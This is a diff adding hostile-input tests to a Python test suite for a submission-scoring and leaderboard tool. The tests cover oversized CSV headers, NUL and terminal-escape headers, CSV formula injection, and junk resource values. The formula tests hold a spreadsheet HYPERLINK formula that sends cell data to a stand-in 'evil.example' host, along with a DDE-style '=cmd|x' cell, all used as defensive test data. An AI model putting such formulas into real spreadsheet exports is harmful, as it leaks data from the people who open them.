@@ -1,9 +1,9 @@
-"""Hostile and malformed input (issues 14 and 24): a clear problem, never a crash, a leak or a silent wrong verdict.
+"""Hostile and malformed input (issues 14, 24, 32): a clear problem, never a crash, a leak or a silent wrong verdict.
 
 One test (or a few) per class of each issue, in the order of the issue's list,
 each reading the input it guards against from ``tests/data/hostile/`` (see the
 README there) or building it with a script there (``make_bombs.py``,
-``make_hostile.py``; ``benchmarks/hostile.py`` builds the same inputs). Where a
+``make_hostile.py``, ``make_inputs.py``; ``benchmarks/hostile.py`` builds the same inputs). Where a
 class has a resource bound (seconds, MB), its test asserts it loosely (several
 times what ``benchmarks/hostile.py`` measures, never a tight timed assert).
 """
@@ -13,9 +13,11 @@ from __future__ import annotations
 import csv
 import functools
 import importlib.util
+import io
 import json
 import math
 import os
+import re
 import shutil
 import sys
 import time
@@ -1153,3 +1155,254 @@ def test_a_model_stopped_by_the_wall_clock_is_cached_as_a_timeout_with_its_limit
     # Before: the whole wall-clock limit again on every scoring (75 s at --timeout 10). Bound asserted: 2 s
     # (measured: 10 ms, against 2-10 s for the first scoring's start and kill; benchmarks/hostile.py --classes 16).
     assert time.perf_counter() - start < 2.0
+
+
+# =========================================================================== issue 32 (hostile input, round 4)
+# One section per class: a wide prediction file, rejection reasons that quoted the file, formulas in CSV
+# outputs, junk in energy columns. Inputs built by tests/data/hostile/make_inputs.py into tmp_path; the bounds
+# are measured by `python benchmarks/hostile.py --classes 32.1 32.2 32.3 32.4`.
+
+INPUTS = _script("make_inputs")
+
+
+def _scored(folder: Path):
+    """The one submission of SUBMISSIONS/team, scored against make_inputs' targets, and its cost."""
+    import sklearn.metrics  # noqa: F401 - imported before measuring: the first scoring imports it (about 80 MB)
+
+    box = {}
+    seconds, megabytes = MAKE.cost(lambda: box.setdefault("result", score_submissions(
+        folder / "SUBMISSIONS", INPUTS.targets(), metric="rmse")))
+    return box["result"].submissions.iloc[0], seconds, megabytes
+
+
+# ----------------------------------------------------------------- issue 32, class 1: a wide prediction file
+
+
+def test_a_prediction_file_with_100000_extra_columns_is_refused_from_its_header_line(tmp_path):
+    path = INPUTS.wide_header(tmp_path)
+    assert 3.5e6 < path.stat().st_size < 64 * 2**20  # 3.9 MB: well under the size limit
+    submission, seconds, megabytes = _scored(tmp_path)
+    assert submission["status"] == "rejected"
+    # 100,000 extra columns + id + prediction = 100,002 columns, counted from the header line's commas.
+    assert submission["reason"] == ("its header line has 100,002 columns; a solution CSV has the columns id, "
+                                    "prediction and at most 10 columns in all. Refused before its rows are read; "
+                                    "remove the other columns.")
+    # Before: 87-196 s and 1.0-1.2 GB, and scored. Measured now: 0.09 s, 4 MB (the file read once). Asserted
+    # loosely: the work must not grow with the columns nobody asked for.
+    assert seconds < 5.0
+    assert megabytes is None or megabytes < 100, megabytes
+
+
+def test_rows_wider_than_an_honest_header_are_refused_at_the_cost_of_reading_them_once(tmp_path):
+    INPUTS.wide_rows(tmp_path)
+    submission, seconds, megabytes = _scored(tmp_path)
+    assert submission["status"] == "rejected"
+    assert submission["reason"].startswith("row 1: has 100002 fields but the header has 2 (id, prediction)")
+    # Measured: 0.2 s, 15 MB for 3.2 MB of rows (one pass of the csv module).
+    assert seconds < 10.0
+    assert megabytes is None or megabytes < 200, megabytes
+
+
+def test_only_the_needed_columns_of_an_honest_solution_are_read(tmp_path):
+    from srdash.io.csvcolumns import read_csv_columns
+
+    INPUTS.honest(tmp_path, extra="Usage")
+    submission, _, _ = _scored(tmp_path)
+    # Predictions i + 0.5 for targets i: RMSE 0.5 on each subset, whatever the extra column holds.
+    assert submission["status"] == "ok" and submission["rmse_final"] == pytest.approx(0.5)
+    table, problems = read_csv_columns(b"prediction,Usage,id\n2,Public,b\n", source="s.csv",
+                                       required=("id", "prediction"), max_columns=10)
+    assert problems == [] and table.to_dict("list") == {"id": ["b"], "prediction": ["2"]}
+    _, problems = read_csv_columns(b"id,prediction,prediction\n1,2,3\n", source="s.csv",
+                                   required=("id", "prediction"), max_columns=10)
+    assert str(problems[0]) == ("s.csv, column 'prediction': the column appears 2 times in the header; give each "
+                                "column a distinct name.")
+    long = b"id,prediction," + b"x" * 5000 + b"\n1,2,3\n"
+    _, problems = read_csv_columns(long, source="s.csv", required=("id", "prediction"), max_columns=10)
+    assert str(problems[0]) == ("s.csv: its header line is 5,014 bytes long; a solution CSV's header (columns id, "
+                                "prediction) is at most 4,096 bytes. Refused before its rows are read.")
+
+
+# ------------------------------------------------------- issue 32, class 2: a rejection reason that quotes the file
+
+
+def test_a_header_of_nul_bytes_is_refused_without_quoting_them(tmp_path):
+    INPUTS.nul_header(tmp_path)
+    submission, _, _ = _scored(tmp_path)
+    # Before: a reason of 3,025 characters here (and 32,844 with no data rows: 8,192 NULs shown as '\x00').
+    assert submission["reason"] == "is not a text file (byte 1 is a NUL byte; a UTF-16 file? save it as UTF-8)."
+
+
+def test_a_header_of_long_names_and_terminal_escapes_is_shown_shortened_and_escaped(tmp_path):
+    INPUTS.long_header(tmp_path)
+    submission, _, _ = _scored(tmp_path)
+    reason = submission["reason"]
+    assert reason.startswith("missing columns 'id', 'prediction'; expected id, prediction; found "
+                             "'\\x1b[2J\\x1b[31mSECRET-yyyyyyyyyyyyyyyyyyyyy...', ")
+    assert "\x1b" not in reason and len(reason) < 400  # before: 2,704 characters, names in full
+
+
+@pytest.mark.parametrize("make", ["wide_header", "wide_rows", "nul_header", "long_header", "many_problems"])
+def test_every_rejection_reason_is_bounded_and_never_carries_control_characters(tmp_path, make):
+    getattr(INPUTS, make)(tmp_path)
+    submission, _, _ = _scored(tmp_path)
+    reason = submission["reason"]
+    assert submission["status"] == "rejected"
+    # At most 1,000 characters of problems, then a count (before: 2,015-32,844 characters on these inputs).
+    assert len(reason) < 1_200, len(reason)
+    assert reason.isprintable()
+
+
+def test_a_reason_with_many_problems_ends_with_a_count_of_the_rest(tmp_path):
+    INPUTS.many_problems(tmp_path)
+    submission, _, _ = _scored(tmp_path)
+    # 2,000 rows, each with one or two problems, listed 10 per kind then counted: the reason shows the first
+    # few and says how many more there are.
+    assert re.search(r" \| \.\.\. and \d+ more problems \(listed in the result's problems\)$", submission["reason"])
+
+
+# --------------------------------------------------------------------- issue 32, class 3: formulas in CSV outputs
+
+
+def test_every_csv_srdash_writes_goes_through_the_neutralising_writer():
+    import srdash
+
+    package = Path(srdash.__file__).parent
+    # Serialised to be hashed, never written to a file: neutralising them would change fingerprints.
+    hashed = {("judging/pipeline.py", 'text = frame.to_csv(index=False, lineterminator="\\n")'),
+              ("apps/review.py", '"per_dataset": verdict.per_dataset.to_csv(index=False, float_format="%.9g"),')}
+    writers = re.compile(r"\.to_csv\(|csv\.writer\(|DictWriter\(|\.to_excel\(")
+    found = set()
+    for path in sorted(package.rglob("*.py")):
+        relative = path.relative_to(package).as_posix()
+        if relative == "io/csvsafe.py":
+            continue
+        for line in path.read_text(encoding="utf-8").splitlines():
+            code = line.strip()
+            if code.startswith((">>>", "...")) or not writers.search(code):  # doctest examples write test inputs
+                continue
+            found.add((relative, code))
+    assert found == hashed, f"CSV writers outside srdash.io.csvsafe.write_csv: {sorted(found - hashed)}"
+    # Only the demo's generated input files (srdash's own constants, shipped byte for byte) keep formulas.
+    keeping = {path.relative_to(package).as_posix() for path in package.rglob("*.py")
+               if 'formulas="keep"' in path.read_text(encoding="utf-8")} - {"io/csvsafe.py"}
+    assert keeping == {"demo/competition.py", "demo/srbench2025.py", "demo/predictions.py"}
+    from srdash.io.csvsafe import write_csv
+
+    with pytest.raises(SrdashError, match=r"The 'formulas' option must be one of 'neutralise', 'keep'\. "
+                                          r"Got 'none'\."):
+        write_csv(pd.DataFrame({"a": [1]}), formulas="none")
+
+
+def test_formula_cells_are_neutralised_and_numbers_stay_numbers():
+    from srdash.io.csvsafe import write_csv
+
+    frame = pd.DataFrame({"method": list(INPUTS.FORMULA_NAMES) + ["Honest", "-1.5"],
+                          "score": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25, 8.0],
+                          "flag": [True] * 8})
+    rows = list(csv.reader(io.StringIO(write_csv(frame), newline="")))
+    assert rows[0] == ["method", "score", "flag"]
+    # Each formula start (= + - @ tab CR) gets the apostrophe; a text cell that is a plain number does not;
+    # a numeric column's negative values are written as numbers.
+    assert [r[0] for r in rows[1:]] == ["'" + name for name in INPUTS.FORMULA_NAMES] + ["Honest", "-1.5"]
+    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0", "-7.25", "8.0"]
+    assert frame["method"].iloc[0].startswith("=")  # the argument is not changed
+    named = write_csv(pd.DataFrame({"=cmd|x": [1]}, index=pd.Index(["@x"], name="-y")), index=True)
+    assert named.splitlines() == ["'-y,'=cmd|x", "'@x,1"]
+
+
+def test_the_leaderboard_csv_neutralises_method_names_and_reads_back_as_written(tmp_path, monkeypatch):
+    from click.testing import CliRunner
+
+    from srdash.cli import main
+
+    monkeypatch.setenv("SRDASH_CACHE_DIR", str(tmp_path / "cache"))
+    results = INPUTS.formula_results(tmp_path)
+    board, per_dataset = tmp_path / "board.csv", tmp_path / "per_dataset.csv"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # the tab and CR names are trimmed, with a warning
+        out = CliRunner().invoke(main, ["score", str(results), "-o", str(board), "--per-dataset",
+                                        str(per_dataset), "--no-cache"])
+    assert out.exit_code == 0, out.output
+    names = [name.strip() for name in INPUTS.FORMULA_NAMES]  # '\t=2+5' displays (and ranks) as '=2+5'
+    written = pd.read_csv(board, dtype=str, keep_default_na=False)
+    # Place by the hand-made scores: Honest first, then the names in the order they were given.
+    assert written["method"].tolist() == ["Honest"] + ["'" + name for name in names]
+    detail = pd.read_csv(per_dataset, dtype=str, keep_default_na=False)
+    assert set(detail["method"]) == {"Honest"} | {"'" + name for name in names}
+    # property -0.5 * i, written from a numeric column: negative numbers are not neutralised.
+    assert "-1.5" in set(detail["property"]) and not any(v.startswith("'") for v in detail["property"])
+    # Read back (a published leaderboard audited, results written by srdash), the names are the real ones.
+    audited = CliRunner().invoke(main, ["audit", str(results), "--published", str(board), "--no-cache"])
+    assert audited.exit_code == 0 and f"All {len(names) + 1} methods agree" in audited.output, audited.output
+    from srdash.io.csvsafe import write_csv
+
+    write_csv(load_results(results).table, tmp_path / "again.csv")
+    assert sorted(load_results(tmp_path / "again.csv").table["method"].unique()) == sorted(["Honest"] + names)
+
+
+def test_a_trust_export_neutralises_comments_and_imports_back_unchanged(tmp_path):
+    from srdash.judging.trust import TrustStore
+
+    comment = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with TrustStore(tmp_path / "trust.sqlite", seed=1) as store:
+        store.record("ann", "d1", "a", kind="rank", value=1, comment=comment)
+        store.record("ann", "d1", "-b", kind="rank", value=2, comment="fine")
+        store.export_csv(tmp_path / "trust.csv")
+        exported = store.entries()
+    written = pd.read_csv(tmp_path / "trust.csv", dtype=str, keep_default_na=False)
+    assert sorted(written["comment"]) == ["'" + comment, "fine"] and sorted(written["method"]) == ["'-b", "a"]
+    with TrustStore(tmp_path / "copy.sqlite") as copy:
+        copy.import_csv(tmp_path / "trust.csv")
+        columns = ["judge", "dataset", "method", "kind", "value", "comment"]
+        pd.testing.assert_frame_equal(copy.entries()[columns], exported[columns])
+
+
+# -------------------------------------------------------------------- issue 32, class 4: junk in energy columns
+
+
+def test_junk_in_an_energy_column_is_a_problem_per_cell_naming_file_row_and_column(tmp_path):
+    from click.testing import CliRunner
+
+    from srdash.cli import main
+
+    path = INPUTS.junk_energy(tmp_path)
+    out = CliRunner().invoke(main, ["analyse", "resources", str(path)])
+    # Before: exit 0, a median of 1e+308, an empty total and an overall 'nan', no problem named.
+    assert out.exit_code == 1
+    bad = [(row, text) for row, text, kind in INPUTS.JUNK_ENERGY if kind == "bad"]
+    assert f"The resource columns of {path} are not valid ({len(bad)} problems):" in out.output
+    for row, text in bad:  # read by pandas: '1e999' overflows to inf, '-5' stays text beside 'lots'
+        assert re.search(rf"{re.escape(str(path))}, row {row}, column 'power_consumption\(kWh\)': '[^']+' is "
+                         rf"(not a number|not finite|below 0);", out.output), (row, text)
+    for row, text, kind in INPUTS.JUNK_ENERGY:
+        if kind == "missing":
+            assert f"row {row}, column" not in out.output
+
+
+def test_resource_columns_follow_the_rule_of_metric_columns():
+    from srdash.analysis.resources import over_budget, resource_summary, training_times
+
+    table = pd.DataFrame({"method": ["a", "a", "b", "b"], "dataset": ["d1", "d2", "d1", "d2"],
+                          "duration(s)": ["10", "", "1e999", "-5"], "CO2_emissions(kg)": ["=1+1", "nan", "1", "2"],
+                          "training time (s)": [1.0, float("inf"), 2.0, 3.0]})
+    with pytest.raises(ValidationError) as info:
+        resource_summary(table, columns=["duration(s)", "CO2_emissions(kg)"], source="runs.csv")
+    assert [str(p) for p in info.value.problems] == [
+        "runs.csv, row 3, column 'duration(s)': '1e999' is not finite; a resource column holds finite numbers of "
+        "at least 0.",
+        "runs.csv, row 4, column 'duration(s)': '-5' is below 0; a resource column holds finite numbers of at "
+        "least 0.",
+        "runs.csv, row 1, column 'CO2_emissions(kg)': '=1+1' is not a number; a resource column holds numbers "
+        "(empty means missing).",
+    ]
+    for compute in (lambda: training_times(table, source="runs.csv"),
+                    lambda: over_budget(table, budget=1.5, source="runs.csv")):
+        with pytest.raises(ValidationError, match=r"runs\.csv, row 2, column 'training time \(s\)': inf is not "
+                                                  r"finite"):
+            compute()
+    # Empty and 'nan' are missing, as in metric columns: not counted, and counted as missing.
+    honest = table.assign(**{"duration(s)": ["10", "", "30", "50"]})
+    summary = resource_summary(honest, columns=["duration(s)"])
+    assert summary.totals == {"duration(s)": 90.0} and dict(summary.missing) == {"duration(s)": 1}
+    assert summary.table.set_index("method")["duration(s) median"].to_dict() == {"a": 10.0, "b": 40.0}
